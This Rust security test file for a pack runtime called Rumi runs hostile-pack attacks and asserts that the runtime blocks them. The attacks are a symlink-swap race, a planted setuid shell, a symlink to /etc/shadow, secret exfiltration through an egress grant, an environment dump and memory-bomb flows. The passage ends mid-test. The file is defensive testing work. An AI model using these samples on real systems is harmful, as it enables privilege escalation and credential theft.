//! Hostile packs against the core: approval integrity and the flow engine.
//!
//! Each test runs an attack an approved pack (or its author, who can still write to the
//! pack's installed directory) made, and asserts what Rumi must do instead.

use std::os::unix::ffi::OsStrExt;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use rumi_tests::{Rumid, TestHome, docker_or_skip, patience};
use serde_json::json;

const APPROVED: &str = "def run(data, context):\n    return {'code': 'approved'}\n";
const EVIL: &str = "import os\ndef run(data, context):\n    return {'code': 'evil', 'env': dict(os.environ)}\n";

/// rumid on `home`, in strict mode (containers) or permissive mode (the host runner).
fn start(home: &TestHome, strict: bool) -> Rumid {
    let builder = Rumid::builder(home);
    if strict { builder.strict() } else { builder }.spawn().unwrap()
}

/// A pack `victim` with one block and a flow that runs it.
fn victim(home: &TestHome) {
    home.add_pack("victim");
    home.write("ecosystem/victim/backend/blocks/b.py", APPROVED);
    home.write(
        "ecosystem/victim/flows/run.flow.yaml",
        "flow_id: victim.run\nsteps:\n  - {id: s, type: python_file_call, owner_pack: victim, file: b.py, output: out}\n",
    );
}

/// Time of check to time of use: while the pack's author keeps rewriting the approved block
/// (new content, then a symlink to another file, then the old content again), every run
/// returns what was approved. The edits never run; once a check sees them the pack is
/// `modified` and its runs stop.
fn edits_after_approval_never_run(strict: bool) {
    let home = TestHome::new();
    victim(&home);
    home.write("ecosystem/victim/backend/blocks/evil.py", EVIL);
    let rumid = start(&home, strict);
    assert_eq!(rumid.post("/api/packs/victim/approve", None).status, 200);
    rumid.wait_policy_applied();
    rumi_tests::eventually("the pack flow", patience(), || {
        (rumid.get("/api/flows").body["data"]["count"] == 1).then_some(())
    })
    .unwrap();
    let r = rumid.run_flow("victim.run", json!({}), 60.0);
    assert_eq!(r.body["result"]["out"]["code"], "approved", "{:?}", r.body);

    // The attacker races the runs: rewrite, swap in a symlink, restore, again and again.
    let stop = Arc::new(AtomicBool::new(false));
    let block = home.path().join("ecosystem/victim/backend/blocks/b.py");
    let racer = {
        let (stop, block) = (stop.clone(), block.clone());
        std::thread::spawn(move || {
            let mut n = 0u64;
            while !stop.load(Ordering::Relaxed) {
                let _ = std::fs::remove_file(&block);
                match n % 3 {
                    0 => std::fs::write(&block, EVIL).unwrap(),
                    1 => std::os::unix::fs::symlink("evil.py", &block).unwrap(),
                    _ => std::fs::write(&block, APPROVED).unwrap(),
                }
                n += 1;
            }
            let _ = std::fs::remove_file(&block);
            std::fs::write(&block, EVIL).unwrap();
            n
        })
    };
    // Runs while the files change; no status check happens meanwhile, so the pack still
    // reads `approved` (as in the reproduced attack).
    let runs = if strict { 6 } else { 20 };
    for _ in 0..runs {
        let r = rumid.run_flow("victim.run", json!({}), 60.0);
        assert_eq!(r.status, 200, "{:?}", r.body);
        assert_eq!(
            r.body["result"]["out"],
            json!({"code": "approved"}),
            "only the approved copy may run: {:?}",
            r.body
        );
    }
    stop.store(true, Ordering::Relaxed);
    let rewrites = racer.join().unwrap();
    assert!(rewrites > 10, "the racer rewrote the block {rewrites} times");
    assert!(!r.body.to_string().contains("evil"));

    // A check sees the edit: modified, and nothing of the pack runs any more.
    assert_eq!(rumid.pack_state("victim"), "modified");
    rumi_tests::eventually("the pack's flows unloaded", patience(), || {
        (rumid.run_flow("victim.run", json!({}), 30.0).status == 404).then_some(())
    })
    .unwrap();
    // Re-approving runs exactly the new files, with no manual reload.
    assert_eq!(rumid.post("/api/packs/victim/approve", None).status, 200);
    let out = rumi_tests::eventually("the re-approved flow", patience(), || {
        let r = rumid.run_flow("victim.run", json!({}), 60.0);
        (r.status == 200).then_some(r.body["result"]["out"]["code"].clone())
    })
    .unwrap();
    assert_eq!(out, "evil", "the operator approved the new file");
    let calls = home.audit_actions("python_file_call", "python_file_call");
    let mode = if strict { "container" } else { "host_bwrap" };
    assert!(calls.iter().all(|c| c["execution_mode"] == mode), "{calls:?}");
}

#[test]
fn edits_after_approval_never_run_on_the_host() {
    edits_after_approval_never_run(false);
}

#[test]
fn edits_after_approval_never_run_in_containers() {
    if !docker_or_skip("edits_after_approval_never_run_in_containers") {
        return;
    }
    edits_after_approval_never_run(true);
}

/// The approved snapshot is what sandboxes mount, read-only: a block cannot change the code
/// of the next run, and the snapshot holds no write or setuid bit.
#[test]
fn the_approved_snapshot_is_read_only_and_content_addressed() {
    let home = TestHome::new();
    victim(&home);
    let rumid = Rumid::start(&home);
    let approved = rumid.post("/api/packs/victim/approve", None);
    assert_eq!(approved.status, 200);
    let digest = home.audit_actions("approval", "pack_approved")[0]["details"]["digest"]
        .as_str()
        .unwrap()
        .to_owned();
    let snap = home.path().join("user_data/snapshots/victim").join(&digest);
    use std::os::unix::fs::PermissionsExt;
    let mode = |rel: &str| {
        std::fs::metadata(snap.join(rel))
            .unwrap_or_else(|e| panic!("{rel} in the snapshot: {e}"))
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(mode("backend/blocks/b.py"), 0o444);
    assert_eq!(mode("backend/blocks"), 0o555);
    assert_eq!(
        std::fs::read_to_string(snap.join("backend/blocks/b.py")).unwrap(),
        APPROVED
    );
    // Re-approving unchanged files keeps the same snapshot; a change makes a new one and
    // the old one is removed.
    assert_eq!(rumid.post("/api/packs/victim/approve", None).status, 200);
    let dirs =
        |home: &TestHome| std::fs::read_dir(home.path().join("user_data/snapshots/victim")).map_or(0, Iterator::count);
    assert_eq!(dirs(&home), 1);
    home.write("ecosystem/victim/backend/blocks/b.py", EVIL);
    assert_eq!(rumid.post("/api/packs/victim/approve", None).status, 200);
    assert_eq!(dirs(&home), 1, "the superseded snapshot is removed");
    assert!(!snap.exists());
    // Rejecting leaves nothing that could run.
    assert_eq!(
        rumid
            .post("/api/packs/victim/reject", Some(&json!({"reason": "no"})))
            .status,
        200
    );
    assert_eq!(dirs(&home), 0);
}

/// A pack's configuration is read from its approved files only: a `routes.json` that is a
/// symlink (here into the pack's own data directory, which its install script writes) is
/// refused, never followed.
#[test]
fn a_symlinked_routes_file_is_refused_not_followed() {
    let home = TestHome::new();
    home.add_pack("web");
    home.write(
        "ecosystem/web/flows/echo.flow.yaml",
        "flow_id: web.echo\nsteps:\n  - {id: s, type: set, input: {key: v, value: served}}\n",
    );
    // What the pack's install.py would write to /data after approval.
    home.write(
        "user_data/packs/web/routes.json",
        r#"{"routes": [{"method": "GET", "path": "/web/planted", "flow_id": "web.echo"}]}"#,
    );
    std::os::unix::fs::symlink(
        home.path().join("user_data/packs/web/routes.json"),
        home.path().join("ecosystem/web/routes.json"),
    )
    .unwrap();
    // And a backend/ directory that is a symlink to a directory holding a routes.json.
    home.write(
        "elsewhere/routes.json",
        r#"{"routes": [{"method": "GET", "path": "/web/other", "flow_id": "web.echo"}]}"#,
    );
    let rumid = Rumid::start(&home);
    assert_eq!(rumid.post("/api/packs/web/approve", None).status, 200);
    rumid.wait_policy_applied();
    let routes = rumi_tests::eventually("routes loaded", patience(), || {
        let r = rumid.get("/api/routes").body["data"].clone();
        (!r["diagnostics"].as_array().unwrap().is_empty()).then_some(r)
    })
    .unwrap();
    assert_eq!(routes["count"], 0, "{routes}");
    assert!(
        routes["diagnostics"]
            .to_string()
            .contains("not a regular file of the approved snapshot"),
        "{routes}"
    );
    assert_eq!(rumid.get("/web/planted").status, 404);

    let home = TestHome::new();
    home.add_pack("web");
    home.write(
        "ecosystem/web/flows/echo.flow.yaml",
        "flow_id: web.echo\nsteps:\n  - {id: s, type: set, input: {key: v, value: served}}\n",
    );
    home.write(
        "elsewhere/routes.json",
        r#"{"routes": [{"method": "GET", "path": "/web/other", "flow_id": "web.echo"}]}"#,
    );
    std::fs::remove_dir_all(home.path().join("ecosystem/web/backend")).unwrap();
    std::os::unix::fs::symlink(home.path().join("elsewhere"), home.path().join("ecosystem/web/backend")).unwrap();
    let rumid = Rumid::start(&home);
    assert_eq!(rumid.post("/api/packs/web/approve", None).status, 200);
    rumid.wait_policy_applied();
    rumi_tests::eventually("the pack flow", patience(), || {
        (rumid.get("/api/flows").body["data"]["count"] == 1).then_some(())
    })
    .unwrap();
    assert_eq!(rumid.get("/api/routes").body["data"]["count"], 0);
    assert_eq!(rumid.get("/web/other").status, 404);
}

/// File names are recorded losslessly or refused: two names that differ only in bytes that
/// are not UTF-8 would collapse into one record key, letting one of them change unnoticed.
#[test]
fn file_names_that_are_not_utf8_are_refused_with_a_code() {
    let home = TestHome::new();
    victim(&home);
    let odd = home
        .path()
        .join("ecosystem/victim/backend/blocks")
        .join(std::ffi::OsStr::from_bytes(b"x\xff.py"));
    std::fs::write(&odd, "x = 1\n").unwrap();
    let rumid = Rumid::start(&home);
    let r = rumid.post("/api/packs/victim/approve", None);
    assert_eq!((r.status, r.code()), (422, "RUMI-PACK-007"), "{:?}", r.body);
    assert!(r.body.to_string().contains("UTF-8"), "{:?}", r.body);
    assert_eq!(rumid.pack_state("victim"), "pending");
    assert!(
        !home.path().join("user_data/snapshots/victim").exists() || {
            std::fs::read_dir(home.path().join("user_data/snapshots/victim"))
                .unwrap()
                .count()
                == 0
        }
    );

    // Such a file appearing in an approved pack makes it modified.
    std::fs::remove_file(&odd).unwrap();
    assert_eq!(rumid.post("/api/packs/victim/approve", None).status, 200);
    std::fs::write(&odd, "x = 1\n").unwrap();
    assert_eq!(rumid.pack_state("victim"), "modified");
}

const PLANT: &str = r#"
import os, shutil
def run(context=None):
    data = context["data_dir"]
    shutil.copy("/bin/sh", os.path.join(data, "sh"))
    os.chmod(os.path.join(data, "sh"), 0o6755)
    os.makedirs(os.path.join(data, "dir"), exist_ok=True)
    os.chmod(os.path.join(data, "dir"), 0o2777)
    os.symlink("/etc/shadow", os.path.join(data, "shadow"))
    return {"planted": True}
"#;

const USE_PLANT: &str = r#"
import os, subprocess
def attempt(fn):
    try:
        return {"ok": True, "value": fn()}
    except BaseException as e:
        return {"ok": False, "error": "%s: %s" % (type(e).__name__, e)}
def shm_fill():
    with open("/dev/shm/fill", "wb") as f:
        for _ in range(64):
            f.write(b"x" * (1024 * 1024))
    return "64 MiB written"
def run(data, context):
    return {
        "setuid_sh": attempt(lambda: subprocess.run(["/data/sh", "-c", "id -u"], capture_output=True, text=True).stdout.strip()),
        "shadow": attempt(lambda: open("/data/shadow").read()),
        "shm_fill": attempt(shm_fill),
        "uid": os.getuid(),
    }
"#;

/// Setuid files and symlinks planted in the writable data directory by a lib script gain
/// nothing: a setuid binary runs as the pack's uid (no_new_privs, nosuid), the host copy
/// loses its setuid and setgid bits as soon as the script ends, a symlink to the host's
/// `/etc/shadow` leads nowhere, and `/dev/shm` is bounded.
fn planted_files_gain_nothing(strict: bool) {
    let home = TestHome::new();
    home.add_pack("planter");
    home.write("ecosystem/planter/backend/lib/install.py", PLANT);
    home.write("ecosystem/planter/backend/blocks/use.py", USE_PLANT);
    home.write(
        "flows/use.flow.yaml",
        "flow_id: use\ndefaults: {fail_soft: false}\nsteps:\n  - {id: s, type: python_file_call, owner_pack: planter, file: use.py, output: out}\n",
    );
    let rumid = start(&home, strict);
    assert_eq!(rumid.post("/api/packs/planter/approve", None).status, 200);
    let data = home.path().join("user_data/packs/planter");
    let installed = rumi_tests::eventually("install.py to run", patience(), || {
        home.audit_actions("system", "lib_install").into_iter().next()
    })
    .unwrap();
    assert_eq!(installed["success"], true, "{installed}");
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &std::path::Path| std::fs::symlink_metadata(p).unwrap().permissions().mode();
    assert_eq!(mode(&data.join("sh")) & 0o7000, 0, "setuid/setgid stripped on the host");
    assert_eq!(mode(&data.join("dir")) & 0o7000, 0, "setgid directory stripped");
    let r = rumid.run_flow("use", json!({}), 60.0);
    assert_eq!(r.status, 200, "{:?}", r.body);
    let out = &r.body["result"]["out"];
    let uid = out["uid"].as_u64().unwrap();
    assert_ne!(uid, 0);
    // Whatever runs from /data runs as the pack, never as root.
    if out["setuid_sh"]["ok"] == true {
        assert_eq!(out["setuid_sh"]["value"], uid.to_string(), "{out}");
    }
    assert_eq!(out["shadow"]["ok"], false, "{out}");
    assert_eq!(out["shm_fill"]["ok"], false, "/dev/shm is bounded: {out}");
}

#[test]
fn planted_setuid_files_gain_nothing_on_the_host() {
    planted_files_gain_nothing(false);
}

#[test]
fn planted_setuid_files_gain_nothing_in_containers() {
    if !docker_or_skip("planted_setuid_files_gain_nothing_in_containers") {
        return;
    }
    planted_files_gain_nothing(true);
}

/// A pack writing megabyte values as fast as it can fills its own quota and is refused with
/// `quota_exceeded`; another pack's stores and the operator are not affected.
#[test]
fn store_writes_stop_at_the_packs_quota() {
    let home = TestHome::new();
    home.add_pack("hog");
    home.add_pack("good");
    let rumid = Rumid::builder(&home)
        .env("RUMI_STORE_QUOTA_BYTES", &(3 * 1024 * 1024).to_string())
        .env("RUMI_STORE_QUOTA_KEYS", "50")
        .spawn()
        .unwrap();
    for (pack, store) in [("hog", "hogs"), ("good", "notes")] {
        assert_eq!(rumid.post(&format!("/api/packs/{pack}/approve"), None).status, 200);
        let r = rumid.post(
            "/api/stores/create",
            Some(&json!({"store_id": store, "owner_pack": pack})),
        );
        assert_eq!(r.status, 200, "{:?}", r.body);
        rumid.grant_capability(pack, "store.set", json!({"allowed_store_ids": [store]}));
    }
    let hog = rumid.capability_socket(&home, "hog");
    let good = rumid.capability_socket(&home, "good");
    rumi_tests::wait_socket(&hog).unwrap();
    rumi_tests::wait_socket(&good).unwrap();
    let set = |sock: &std::path::Path, store: &str, key: &str, value: serde_json::Value| {
        rumi_tests::frame_call(
            sock,
            &json!({"permission_id": "store.set", "args": {"store_id": store, "key": key, "value": value}}),
        )
        .unwrap()
    };
    // 100 values of almost 1 MiB: the first ones fit in 3 MiB, then every write is refused.
    let mib = "x".repeat(1024 * 1024 - 64);
    let mut stored = 0;
    let mut refused = Vec::new();
    for i in 0..100 {
        let r = set(&hog, "hogs", &format!("k{i}"), json!(mib));
        if r["success"] == true {
            stored += 1;
        } else {
            refused.push(r);
        }
    }
    assert_eq!(stored, 3, "three values fit the 3 MiB quota");
    assert_eq!(refused.len(), 97);
    assert!(
        refused.iter().all(|r| r["error_type"] == "quota_exceeded"),
        "{:?}",
        refused[0]
    );
    assert!(
        refused[0]["error"].as_str().unwrap().contains("RUMI_STORE_QUOTA_BYTES"),
        "{}",
        refused[0]
    );
    // Overwriting a stored key with a small value frees room; keys are bounded too.
    assert_eq!(set(&hog, "hogs", "k0", json!(1))["success"], true);
    let mut keys = 3;
    while set(&hog, "hogs", &format!("small{keys}"), json!(1))["success"] == true {
        keys += 1;
        assert!(keys <= 60, "the key quota holds");
    }
    assert_eq!(keys, 50, "50 keys in all");
    // The other pack and the operator are untouched.
    assert_eq!(set(&good, "notes", "k", json!(mib))["success"], true);
    let out = home.ctl_stdin(&["secrets", "set", "OPERATOR"], "value\n");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

/// Scheduled runs of `flow_execution/flow_run` audit lines, for one flow.
fn scheduled_runs(home: &TestHome, flow_id: &str) -> Vec<serde_json::Value> {
    home.audit_actions("flow_execution", "flow_run")
        .into_iter()
        .filter(|e| e["details"]["trigger"] == "schedule" && e["flow_id"] == flow_id)
        .collect()
}

/// Seconds since the start of the current UTC minute.
fn second_of_minute() -> f64 {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap();
    (now.as_secs() % 60) as f64 + f64::from(now.subsec_millis()) / 1000.0
}

/// A stall across a minute boundary: rumid is stopped (SIGSTOP) from second :58.3 to :01.5,
/// so no scheduler tick lands in second :00. The `* * * * *` flow still runs for that
/// minute, once.
#[test]
fn a_cron_run_survives_a_stall_across_the_minute_boundary() {
    use nix::sys::signal::{Signal, kill};
    let home = TestHome::new();
    home.add_pack("clock");
    home.write(
        "ecosystem/clock/flows/minute.flow.yaml",
        "flow_id: clock.minute\nschedule: {cron: '* * * * *'}\nsteps:\n  - {id: s, type: set, input: {key: v, value: 1}}\n",
    );
    let rumid = Rumid::start(&home);
    assert_eq!(rumid.post("/api/packs/clock/approve", None).status, 200);
    rumi_tests::eventually("the scheduled flow", patience(), || {
        (rumid.get("/api/flows").body["data"]["count"] == 1).then_some(())
    })
    .unwrap();
    // Wait for second :58.3 of a minute (of the next one if that is already past).
    let s = second_of_minute();
    let wait = if s < 58.3 { 58.3 - s } else { 60.0 - s + 58.3 };
    std::thread::sleep(std::time::Duration::from_secs_f64(wait));
    let before = scheduled_runs(&home, "clock.minute").len();
    let pid = nix::unistd::Pid::from_raw(rumid.pid() as i32);
    kill(pid, Signal::SIGSTOP).unwrap();
    std::thread::sleep(std::time::Duration::from_secs_f64(60.0 - second_of_minute() + 1.5));
    kill(pid, Signal::SIGCONT).unwrap();
    assert!(second_of_minute() >= 1.0, "the stall covered second :00");
    rumi_tests::eventually("the run of the stalled minute", patience(), || {
        (scheduled_runs(&home, "clock.minute").len() > before).then_some(())
    })
    .unwrap();
    std::thread::sleep(std::time::Duration::from_secs(3));
    let runs = scheduled_runs(&home, "clock.minute");
    assert_eq!(runs.len(), before + 1, "exactly one run caught up: {runs:?}");
    assert_eq!(runs[before]["success"], true);
}

/// What an exfiltrating block does: posts `s` through its own pack's egress grant.
const EXFIL: &str = r#"
import rumi_syscall

def run(data, context):
    r = rumi_syscall.post_json(data["url"], {"s": data.get("s")})
    return {"status": r.get("status_code"), "error": r.get("error_type")}
"#;

/// Running as another pack: `evil` (no capability grant, an egress grant) injects a
/// `function` step with `owner_pack: victim` into its own scheduled flow through its own
/// modifier, to read victim's secret every 10 s and post it out. Also tried: the same in a
/// flow file, a `python_file_call` of victim's code, and sub-flows (victim's own flow, an
/// official flow naming victim) called from evil's flows. Nothing runs as victim for evil,
/// each refusal is audited, and victim's flow and the operator's flow keep reading the secret.
#[test]
fn a_pack_never_runs_steps_as_another_pack_whatever_adds_them() {
    let up = rumi_tests::upstream::Upstream::start();
    let secret = "victim-secret-7f3a";
    let home = TestHome::new();
    victim(&home);
    home.write(
        "ecosystem/victim/flows/read.flow.yaml",
        "flow_id: victim.read\nsteps:\n  - {id: get, type: function, owner_pack: victim, input: {function: secrets.get, args: {key: TOKEN}}, output: s}\n",
    );
    home.write(
        "flows/ops_read.flow.yaml",
        "flow_id: ops.read\nsteps:\n  - {id: get, type: function, owner_pack: victim, input: {function: secrets.get, args: {key: TOKEN}}, output: s}\n",
    );
    home.add_pack("evil");
    home.write("ecosystem/evil/backend/blocks/exfil.py", EXFIL);
    let url = up.url("/echo");
    let exfil = |when: &str| {
        format!(
            "  - {{id: out, type: python_file_call, priority: 900, owner_pack: evil, file: exfil.py, when: \"{when}\", input: {{url: \"{url}\", s: \"{when}\"}}}}\n"
        )
    };
    home.write(
        "ecosystem/evil/flows/tick.flow.yaml",
        &format!(
            "flow_id: evil.tick\nschedule: {{interval: 10}}\nsteps:\n  - {{id: a, type: set, priority: 1, input: {{key: started, value: true}}}}\n{}",
            exfil("$ctx.s.value")
        ),
    );
    home.write(
        "ecosystem/evil/flows/modifiers/steal.modifier.yaml",
        "modifier_id: steal\ntarget_flow_id: evil.tick\naction: inject_after\ntarget_step_id: a\nstep: {id: grab, type: function, owner_pack: victim, input: {function: secrets.get, args: {key: TOKEN}}, output: s}\n",
    );
    home.write(
        "ecosystem/evil/flows/direct.flow.yaml",
        "flow_id: evil.direct\nsteps:\n  - {id: b, type: python_file_call, owner_pack: victim, file: b.py, output: out}\n",
    );
    for (id, sub) in [("evil.relay", "victim.read"), ("evil.relay_ops", "ops.read")] {
        home.write(
            &format!("ecosystem/evil/flows/{id}.flow.yaml"),
            &format!(
                "flow_id: {id}\nsteps:\n  - {{id: call, type: flow, flow: {sub}, output: got}}\n{}",
                exfil("$ctx.got.s.value")
            ),
        );
    }
    home.write(
        "ecosystem/evil/flows/ping.flow.yaml",
        &format!(
            "flow_id: evil.ping\nsteps:\n  - {{id: a, type: set, priority: 1, input: {{key: s, value: {{value: harmless}}}}}}\n{}",
            exfil("$ctx.s.value")
        ),
    );
    let rumid = Rumid::builder(&home)
        .env("RUMI_EGRESS_ALLOW_CIDRS", "127.0.0.1/32")
        .spawn()
        .unwrap();
    let r = rumid.post("/api/secrets/set", Some(&json!({"key": "TOKEN", "value": secret})));
    assert_eq!(r.status, 200, "{:?}", r.body);
    assert_eq!(rumid.post("/api/packs/victim/approve", None).status, 200);
    rumid.grant_capability("victim", "secrets.get", json!({"allowed_keys": ["TOKEN"]}));
    rumid.approve_and_grant("evil", &["127.0.0.1"], &[up.addr.port()]);
    let flows = rumi_tests::eventually("evil's flows", patience(), || {
        let f = rumid.get("/api/flows").body["data"].clone();
        f["flows"]
            .as_array()?
            .iter()
            .any(|f| f["flow_id"] == "evil.ping")
            .then_some(f)
    })
    .unwrap();
    rumi_tests::wait_socket(&rumid.capability_socket(&home, "victim")).unwrap();
    rumi_tests::wait_socket(&rumid.egress_socket(&home, "evil")).unwrap();

    // Refused at load, on the flows as modified: the modified flow and the flow file.
    let ids: Vec<&str> = flows["flows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["flow_id"].as_str().unwrap())
        .collect();
    assert!(!ids.contains(&"evil.tick") && !ids.contains(&"evil.direct"), "{ids:?}");
    let diags = flows["diagnostics"].to_string();
    assert!(
        diags.contains(r#"step \"grab\" (put there by modifier steal) runs as \"victim\", but a flow of pack evil may only run steps as evil"#),
        "{diags}"
    );
    assert!(diags.contains(r#"step \"b\" runs as \"victim\""#), "{diags}");
    assert_eq!(rumid.run_flow("evil.tick", json!({}), 30.0).status, 404);
    let refused = home.audit_actions("security", "step_owner_refused");
    let at_load = |flow: &str| {
        refused
            .iter()
            .find(|e| e["flow_id"] == flow && e["details"]["stage"] == "load")
            .unwrap_or_else(|| panic!("no load refusal of {flow}: {refused:?}"))
            .clone()
    };
    let tick = at_load("evil.tick");
    assert_eq!(
        (
            &tick["owner_pack"],
            &tick["modifier_id"],
            &tick["details"]["requested_owner"],
            &tick["step_id"]
        ),
        (&json!("evil"), &json!("steal"), &json!("victim"), &json!("grab"))
    );
    assert_eq!(at_load("evil.direct")["details"]["requested_owner"], "victim");

    // The exfiltration path itself works (a harmless value goes out) ...
    let r = rumid.run_flow("evil.ping", json!({}), 60.0);
    assert_eq!(r.status, 200, "{:?}", r.body);
    assert_eq!(up.hits(), 1, "the egress grant works: {:?}", r.body);
    // ... but sub-flows run nothing as victim for evil: victim's own flow, an official one.
    for (relay, sub) in [("evil.relay", "victim.read"), ("evil.relay_ops", "ops.read")] {
        let r = rumid.run_flow(relay, json!({}), 60.0);
        assert_eq!(r.status, 200, "{:?}", r.body);
        assert!(!r.body.to_string().contains(secret), "{:?}", r.body);
        let e = home
            .audit_actions("security", "step_owner_refused")
            .into_iter()
            .find(|e| e["flow_id"] == sub && e["details"]["stage"] == "run")
            .unwrap_or_else(|| panic!("no run refusal under {relay}"));
        assert_eq!(e["owner_pack"], "evil");
        assert_eq!(e["details"]["call_chain"], json!([relay, sub]));
    }
    // One schedule interval later, still nothing left (the stealing flow never loaded).
    std::thread::sleep(std::time::Duration::from_secs(11));
    assert_eq!(up.hits(), 1, "the secret never went out");
    let calls = home.audit_actions("permission", "permission_execute");
    assert!(
        calls
            .iter()
            .all(|c| c["details"]["request_id"] != "flow:evil.tick:grab"),
        "{calls:?}"
    );

    // Meanwhile victim's own flow and the operator's flow read the secret.
    for id in ["victim.read", "ops.read"] {
        let r = rumid.run_flow(id, json!({}), 30.0);
        assert_eq!(r.status, 200, "{:?}", r.body);
        assert_eq!(r.body["result"]["s"]["value"], secret, "{id}: {:?}", r.body);
    }
}

/// rumid's resident set and its peak so far (`VmRSS`, `VmHWM`), in KiB.
fn rss_kib(pid: u32) -> (u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let field = |name: &str| -> u64 {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .and_then(|v| v.trim().trim_end_matches(" kB").trim().parse().ok())
            .unwrap_or_else(|| panic!("{name} in {status}"))
    };
    (field("VmRSS:"), field("VmHWM:"))
}

/// Data-only flows of a pack with no code run and no grant: each the worst a flow file can
/// build. `bomb.quad`: ten `set` steps, each repeating the previous value four times (the
/// reproduced 17 → 448 MB); `bomb.list`: the same with a list of four references;
/// `bomb.double`: twenty sub-flow calls, each result holding a copy of the whole context;
/// `bomb.deep`: a value wrapped in itself step after step; `bomb.copy`: 16,384 values copied
/// from key to key a thousand times (never too much at once, seconds of work); `bomb.steps`:
/// 200 sub-flow calls of a 100-step flow (20,000 steps of nothing).
fn bomb_pack(home: &TestHome) {
    home.add_pack("bomb");
    let seed = "x".repeat(250);
    let mut quad = format!(
        "flow_id: bomb.quad\nsteps:\n  - {{id: s00, type: set, priority: 0, input: {{key: v, value: {seed}}}}}\n"
    );
    let mut list = quad.replace("bomb.quad", "bomb.list");
    let mut deep =
        "flow_id: bomb.deep\nsteps:\n  - {id: s00, type: set, priority: 0, input: {key: v, value: 0}}\n".to_owned();
    for i in 1..=40 {
        // Ten are enough: 250 bytes times 4^10 is 262 MB.
        if i <= 10 {
            quad.push_str(&format!(
            "  - {{id: s{i:02}, type: set, priority: {i}, input: {{key: v, value: \"${{ctx.v}}${{ctx.v}}${{ctx.v}}${{ctx.v}}\"}}}}\n"
        ));
            list.push_str(&format!(
            "  - {{id: s{i:02}, type: set, priority: {i}, input: {{key: v, value: [\"$ctx.v\", \"$ctx.v\", \"$ctx.v\", \"$ctx.v\"]}}}}\n"
        ));
        }
        deep.push_str(&format!(
            "  - {{id: s{i:02}, type: set, priority: {i}, input: {{key: v, value: [[\"$ctx.v\"]]}}}}\n"
        ));
    }
    home.write("ecosystem/bomb/flows/quad.flow.yaml", &quad);
    // Never too much at once, but 16,384 small values copied from key to key 1000 times.
    let mut copy =
        "flow_id: bomb.copy\nsteps:\n  - {id: s00, type: set, priority: 0, input: {key: v, value: x}}\n".to_owned();
    for i in 1..=7 {
        copy.push_str(&format!(
            "  - {{id: s{i:02}, type: set, priority: {i}, input: {{key: v, value: [\"$ctx.v\", \"$ctx.v\", \"$ctx.v\", \"$ctx.v\"]}}}}\n"
        ));
    }
    for i in 0..1000 {
        copy.push_str(&format!(
            "  - {{id: c{i:04}, type: set, priority: 100, input: {{key: w, value: \"$ctx.v\"}}}}\n"
        ));
    }
    home.write("ecosystem/bomb/flows/copy.flow.yaml", &copy);
    home.write("ecosystem/bomb/flows/list.flow.yaml", &list);
    home.write("ecosystem/bomb/flows/deep.flow.yaml", &deep);
    let mut double = format!(
        "flow_id: bomb.double\nsteps:\n  - {{id: s00, type: set, priority: 0, input: {{key: v, value: {seed}}}}}\n"
    );
    for i in 1..=20 {
        double.push_str(&format!(
            "  - {{id: s{i:02}, type: flow, priority: {i}, flow: bomb.noop, output: c{i:02}}}\n"
        ));
    }
    home.write("ecosystem/bomb/flows/double.flow.yaml", &double);
    home.write(
        "ecosystem/bomb/flows/noop.flow.yaml",
        "flow_id: bomb.noop\nsteps:\n  - {id: n, type: set, input: {key: n, value: 1}}\n",
    );
    let mut hundred = "flow_id: bomb.hundred\nsteps:\n".to_owned();
    let mut steps = "flow_id: bomb.steps\nsteps:\n".to_owned();
    for i in 0..200 {
        if i < 100 {
            hundred.push_str(&format!(
                "  - {{id: h{i:03}, type: set, input: {{key: h, value: {i}}}}}\n"
            ));
        }
        steps.push_str(&format!("  - {{id: c{i:03}, type: flow, flow: bomb.hundred}}\n"));
    }
    home.write("ecosystem/bomb/flows/hundred.flow.yaml", &hundred);
    home.write("ecosystem/bomb/flows/steps.flow.yaml", &steps);
}

/// A memory bomb built of flow data alone: every bomb stops at the bound with
/// `RUMI-FLOW-008` (or `RUMI-FLOW-009` for the step count), rumid's peak memory grows by
/// far less than the unbounded 430 MB, and meanwhile a well-behaved pack's flow and the
/// operator's flow answer correctly, again and again.
#[test]
fn flow_data_cannot_blow_up_rumids_memory() {
    let home = TestHome::new();
    bomb_pack(&home);
    victim(&home);
    home.write(
        "flows/ops.flow.yaml",
        "flow_id: ops.sum\nsteps:\n  - {id: s, type: set, input: {key: total, value: \"${ctx.a}+${ctx.b}\"}}\n",
    );
    let rumid = Rumid::start(&home);
    for p in ["bomb", "victim"] {
        assert_eq!(rumid.post(&format!("/api/packs/{p}/approve"), None).status, 200);
    }
    rumi_tests::eventually("the flows", patience(), || {
        (rumid.get("/api/flows").body["data"]["count"] == 10).then_some(())
    })
    .unwrap();
    let (rss_before, _) = rss_kib(rumid.pid());

    let expect = |flow: &str, code: &str, text: &str| {
        let r = rumid.run_flow(flow, json!({}), 60.0);
        assert_eq!((r.status, r.code()), (422, code), "{flow}: {:?}", r.body);
        let msg = r.body["error"].as_str().unwrap().to_owned();
        assert!(msg.contains(text), "{flow}: {msg}");
        msg
    };
    let quad = expect("bomb.quad", "RUMI-FLOW-008", "RUMI_MAX_CONTEXT_BYTES");
    assert!(
        quad.starts_with("step s0"),
        "stopped within the first ten steps: {quad}"
    );
    expect("bomb.list", "RUMI-FLOW-008", "RUMI_MAX_CONTEXT_BYTES");
    expect("bomb.double", "RUMI-FLOW-008", "RUMI_MAX_CONTEXT_BYTES");
    expect("bomb.deep", "RUMI-FLOW-008", "nested deeper than 64 levels");
    expect(
        "bomb.copy",
        "RUMI-FLOW-008",
        "bytes in all (32 times RUMI_MAX_CONTEXT_BYTES)",
    );
    expect("bomb.steps", "RUMI-FLOW-009", "10000 steps");
    // The inputs count too: 1 MiB of empty lists is 300,000 values, held twice.
    let many = "[],".repeat(300_000);
    let body = format!("{{\"inputs\": {{\"l\": [{}]}}}}", many.trim_end_matches(','));
    assert!(body.len() < 1024 * 1024);
    let r = rumid.request(
        "POST",
        "/api/flows/ops.sum/run",
        Some(&rumid.token),
        Some(body.as_bytes()),
        Some("application/json"),
    );
